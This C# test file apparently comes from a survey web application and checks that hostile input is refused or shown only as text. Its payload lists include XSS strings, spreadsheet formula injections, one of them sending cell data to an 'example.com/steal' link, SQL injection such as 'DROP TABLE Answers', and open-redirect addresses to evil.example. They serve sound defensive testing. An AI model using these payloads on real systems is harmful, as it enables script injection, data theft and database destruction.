using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using SurveyApp.Administration;
using SurveyApp.Administration.Staff;
using SurveyApp.Domain;
using SurveyApp.Responding;
using SurveyApp.Tests.Support;
using Xunit;
using SurveyApp.Administration.Waves;
using SurveyApp.Security;

namespace SurveyApp.Tests.Responding.Http;

/// <summary>
/// Hostile and malformed input sent to the respondent pages: whatever is refused gets a clear 4xx page
/// and leaves the database as it was; whatever is accepted as an open answer is shown as text
/// everywhere it appears (review page, coding page, CSV).
/// </summary>
public sealed class HostileInputTests : IDisposable
{
    private readonly SurveyAppFactory _app = new();
    private readonly HttpClient _client;
    private readonly string _link;

    public HostileInputTests()
    {
        _client = _app.CreateRespondent();
        _link = _app.InvitationPaths()[0];
    }

    public void Dispose()
    {
        _client.Dispose();
        _app.Dispose();
    }

    /// <summary>Text that markup, script URLs, spreadsheet formulas and SQL fragments are made of.</summary>
    public static readonly TheoryData<string> TextPayloads = new()
    {
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "=HYPERLINK(\"http://example.com/steal?\"&A1,\"Klicka här\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "'; DROP TABLE Answers; --",
        "1' OR '1'='1",
        "Robert'); DELETE FROM Responses WHERE ('1'='1",
    };

    [Theory]
    [MemberData(nameof(TextPayloads))]
    public async Task AnOpenAnswerIsStoredExactlyAndShownAsText(string payload)
    {
        var saved = await _client.PostFormAsync($"{_link}/sida/1", "page", ("q.f1", "nej"), ("q.f2", payload), ("nav", "next"));
        Assert.Equal(HttpStatusCode.Found, saved.Status);

        await using (var db = _app.CreateDbContext())
        {
            Assert.Equal(payload, await db.Answers.Where(a => a.Text != null).Select(a => a.Text).SingleAsync());
        }
        var page = await _client.GetPageAsync($"{_link}/sida/1");
        var review = await _client.GetPageAsync($"{_link}/granska");
        foreach (var html in new[] { page.Main, review.Main })
        {
            Assert.DoesNotContain("<script>alert", html);
            Assert.DoesNotContain("<img src=x", html);
            Assert.DoesNotContain("<svg onload", html);
            Assert.DoesNotContain("href=\"javascript:", html);
        }
        Assert.Contains(payload, WebUtility.HtmlDecode(review.Main));
    }

    [Theory]
    [MemberData(nameof(TextPayloads))]
    public async Task TheSameTextAsAChoiceIsRefusedAndStoresNothing(string payload)
    {
        var result = await _client.PostFormAsync($"{_link}/sida/1", "page", ("q.f1", payload), ("nav", "next"));

        Assert.Equal(HttpStatusCode.BadRequest, result.Status);
        Assert.Contains("Svaret finns inte bland alternativen", WebUtility.HtmlDecode(result.Main));
        await AssertNothingStoredAsync();
    }

    public static readonly TheoryData<string, string, string> MalformedFields = new()
    {
        // page, field, value
        { "1", "q.f999", "x" },
        { "1", "q.<script>", "x" },
        { "1", "q.f1.item", "nej" },
        { "2", "q.f5", "abc" },
        { "2", "q.f5", "3.5" },
        { "2", "q.f5", "-1" },
        { "2", "q.f5", "99999999999999999999" },
        { "3", "q.f8", "3\u0000" },
        { "1", "q.f1", "nej\u0001" },
        { "4", "q.hinder.99", "ett hinder för mycket" },
        { "4", "q.hinder", "utan nummer" },
    };

    [Theory]
    [MemberData(nameof(MalformedFields))]
    public async Task UnknownFieldsAndValuesOfTheWrongKindAreRefusedAndStoreNothing(string page, string field, string value)
    {
        var result = await _client.PostFormAsync($"{_link}/sida/{page}", "page", (field, value), ("nav", "next"));

        Assert.Equal(HttpStatusCode.BadRequest, result.Status);
        Assert.Contains("error-summary", result.Main);
        Assert.DoesNotContain("Exception", result.Html);
        await AssertNothingStoredAsync();
    }

    [Theory]
    [InlineData(new byte[] { 0xC3, 0x28 }, true)]
    [InlineData(new byte[] { 0xFF, 0xFE, 0xFD }, true)]
    [InlineData(new byte[] { 0xED, 0xA0, 0x80 }, true)]
    [InlineData(new byte[] { 0xC3, 0x28 }, false)]
    [InlineData(new byte[] { 0x00 }, true)]
    [InlineData(new byte[] { 0x1B, 0x5B, 0x32, 0x4A }, true)]
    public async Task InvalidUtf8AndControlCharactersAreRefusedWithAMessageAndStoreNothing(byte[] bytes, bool percentEncoded)
    {
        var token = await _client.AntiforgeryTokenAsync($"{_link}/sida/1");
        var body = new MemoryStream();
        void Write(string text) => body.Write(Encoding.ASCII.GetBytes(text));
        Write($"_handler=page&__RequestVerificationToken={Uri.EscapeDataString(token)}&q.f1=nej&nav=next&q.f2=Svar+");
        if (percentEncoded) Write(string.Concat(bytes.Select(b => $"%{b:X2}")));
        else body.Write(bytes);
        using var content = new ByteArrayContent(body.ToArray());
        content.Headers.ContentType = new("application/x-www-form-urlencoded");

        using var response = await _client.PostAsync($"{_link}/sida/1", content);
        var html = WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync());

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("tecken som inte kunde läsas", html);
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task AFormBodyOverTheLimitIsRefusedBeforeItIsRead()
    {
        var token = await _client.AntiforgeryTokenAsync($"{_link}/sida/1");
        var body = $"_handler=page&__RequestVerificationToken={Uri.EscapeDataString(token)}&q.f1=nej&q.f2={new string('x', 9 * 1024 * 1024)}";
        using var content = new StringContent(body, Encoding.ASCII, "application/x-www-form-urlencoded");

        using var response = await _client.PostAsync($"{_link}/sida/1", content);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Contains("kod 413", WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync()));
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task AnotherRespondentsAntiforgeryTokenIsRefused()
    {
        using var other = _app.CreateRespondent();
        var theirs = await other.AntiforgeryTokenAsync($"{_app.InvitationPaths()[1]}/sida/1");
        await _client.GetPageAsync($"{_link}/sida/1");

        var result = await _client.PostWithTokenAsync($"{_link}/sida/1", "page", theirs, ("q.f1", "nej"), ("nav", "next"));

        Assert.Equal(HttpStatusCode.BadRequest, result.Status);
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task ALinkOfAClosedWaveTakesNoAnswers()
    {
        int participantId;
        int waveId;
        await using (var db = _app.CreateDbContext())
        {
            var wave = await db.Waves.SingleAsync();
            var closed = new Wave { SurveyId = wave.SurveyId, Name = "Stängd omgång", OpensAt = wave.OpensAt, IsClosed = true };
            db.Waves.Add(closed);
            await db.SaveChangesAsync();
            waveId = closed.Id;
            participantId = await db.Participants.Select(p => p.Id).FirstAsync();
        }
        var issued = await _app.Services.GetRequiredService<InvitationService>().IssueAsync(waveId, [participantId]);
        var token = await _client.AntiforgeryTokenAsync($"{_link}/sida/1");

        var result = await _client.PostWithTokenAsync($"{issued[0].Path}/sida/1", "page", token, ("q.f1", "nej"), ("nav", "next"));
        var submit = await _client.PostWithTokenAsync($"{issued[0].Path}/granska", "submit", token);

        Assert.Equal(HttpStatusCode.Gone, result.Status);
        Assert.Equal(HttpStatusCode.Gone, submit.Status);
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task SubmittedMarkupAndFormulasStayTextOnTheCodingPageAndInTheCsv()
    {
        const string markup = "<script>alert('x')</script> och <b>fetstil</b>";
        const string formula = "=HYPERLINK(\"http://example.com\",\"x\")";
        await _client.PostFormAsync($"{_link}/sida/1", "page", ("q.f1", "nej"), ("q.f2", markup), ("nav", "next"));
        await _client.PostFormAsync($"{_link}/sida/2", "page", ("q.f5", "4"), ("q.f6", formula), ("nav", "next"));
        for (var page = 2; page < RespondentHttp.ModelAnswers.Length; page++)
        {
            await _client.PostFormAsync($"{_link}/sida/{page + 1}", "page", RespondentHttp.ModelAnswers[page]);
        }
        Assert.Equal("/tack", (await _client.PostFormAsync($"{_link}/granska", "submit")).Location);
        // Five responses make the wave large enough to show.
        foreach (var link in _app.InvitationPaths().Skip(1).Take(4))
        {
            using var respondent = _app.CreateRespondent();
            await respondent.CompleteSurveyAsync(link);
        }
        using var analyst = await _app.SignedInClientAsync(StaffRoles.Analyst);
        int waveId;
        await using (var db = _app.CreateDbContext())
        {
            waveId = await db.Waves.Select(w => w.Id).SingleAsync();
        }

        var coding = await analyst.GetPageAsync($"/resultat/{waveId}/fritext/f2");
        var csv = await analyst.GetPageAsync($"/resultat/{waveId}/svar.csv");

        // The page's answers are read into its grid once it is live; OpenAnswersPageTests shows them there as text.
        Assert.Equal(HttpStatusCode.OK, coding.Status);
        Assert.DoesNotContain("<script>alert", coding.Html);
        Assert.DoesNotContain("<b>fetstil</b>", coding.Html);
        Assert.Contains("'=HYPERLINK", csv.Html);
        Assert.DoesNotContain(";=HYPERLINK", csv.Html);
    }

    private async Task AssertNothingStoredAsync()
    {
        await using var db = _app.CreateDbContext();
        Assert.Equal(0, await db.Answers.CountAsync());
        Assert.Equal(0, await db.Responses.CountAsync());
    }
}

/// <summary>
/// Addresses a prober sends to the app. Each only asks for a page and changes nothing, so the tests share one app
/// instead of starting one per address.
/// </summary>
public sealed class HostileAddressTests(SharedAppFixture fixture) : IClassFixture<SharedAppFixture>
{
    /// <summary>Addresses a prober sends without signing in: each gets a page or a redirect, never a server error.</summary>
    public static readonly TheoryData<string> HostileAddresses = new()
    {
        "/sprak/en?tillbaka=/%09/evil.example",
        "/sprak/en?tillbaka=/%0A/evil.example",
        "/sprak/en?tillbaka=/%0D/evil.example",
        "/sprak/en?tillbaka=/%0B/evil.example",
        "/sprak/en?tillbaka=/%1F/evil.example",
        "/sprak/sv?tillbaka=/%00",
        "/sprak/sv?tillbaka=%2F%5C%09evil.example",
        "/sprak/sv?tillbaka=/%E2%80%A8evil",
        "/sprak/%09?tillbaka=/",
        "/s/%09%0A",
        "/s/" + new string('a', 5000),
        "/s/abc/sida/0",
        "/s/abc/sida/-1",
        "/s/abc/sida/99999999999",
        "/s/%3Cscript%3E/granska",
        "/resultat/abc",
        "/resultat/1/korstabell?fraga=%00",
        "/logga-in?ReturnUrl=/%09/evil.example",
        "/logga-in?ReturnUrl=%2F%2Fevil.example",
    };

    [Theory]
    [MemberData(nameof(HostileAddresses))]
    public async Task NoHostileAddressGetsAServerError(string path)
    {
        using var client = fixture.App.CreateRespondent();

        var page = await client.GetPageAsync(path);

        Assert.True((int)page.Status < 500, $"{path}: {(int)page.Status}");
        if (page.Location is { } location)
        {
            Assert.StartsWith("/", location);
            Assert.DoesNotContain("evil", location.Split('?')[0]);
        }
    }
}
